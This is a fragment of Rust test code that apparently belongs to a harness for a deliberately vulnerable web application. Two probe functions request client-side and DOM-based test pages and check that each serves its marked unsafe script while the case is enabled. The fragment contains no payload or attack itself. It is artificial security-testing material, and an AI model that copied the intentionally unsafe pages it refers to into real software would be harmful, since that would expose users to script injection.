    }
}

/// Client-side cases (`pages/client.rs`) need a browser too; over HTTP the probe checks that
/// the page serves its unsafe script, and only while the case is on.
async fn client_side(ctx: &Ctx, c: &Case) -> bool {
    let r = ctx.send(ctx.client.get(on(ctx, c))).await;
    assert_eq!(r.status, 200, "{} is served", c.path);
    r.body.contains("data-client=\"unsafe\"")
}

/// DOM-based cases need a browser to run (the browser crate's tests do that); over HTTP the
/// probe checks that the page serves its unsafe script, and only while the case is on.
async fn dom(ctx: &Ctx, c: &Case) -> bool {
    let r = ctx.get(&c.path, &[]).await;
    assert_eq!(r.status, 200, "{} is served", c.path);
    r.body.contains("<script data-sink=\"unsafe\">")
}
